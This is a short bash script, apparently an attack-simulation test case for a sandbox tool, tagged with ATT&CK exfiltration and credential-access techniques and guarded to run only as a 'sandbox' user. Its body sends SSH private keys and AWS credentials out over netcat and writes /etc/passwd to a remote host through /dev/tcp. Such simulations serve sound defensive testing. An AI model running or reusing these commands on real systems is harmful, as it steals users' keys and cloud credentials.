#!/bin/bash
# technique: T1041 T1048 T1552
# needs: bash busybox
# net: sink
# options: --timeout 15s
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

cat "$HOME"/.ssh/id_* "$HOME/.aws/credentials" 2>/dev/null | busybox nc -w 2 203.0.113.7 9000; cat /etc/passwd > /dev/tcp/203.0.113.7/9001
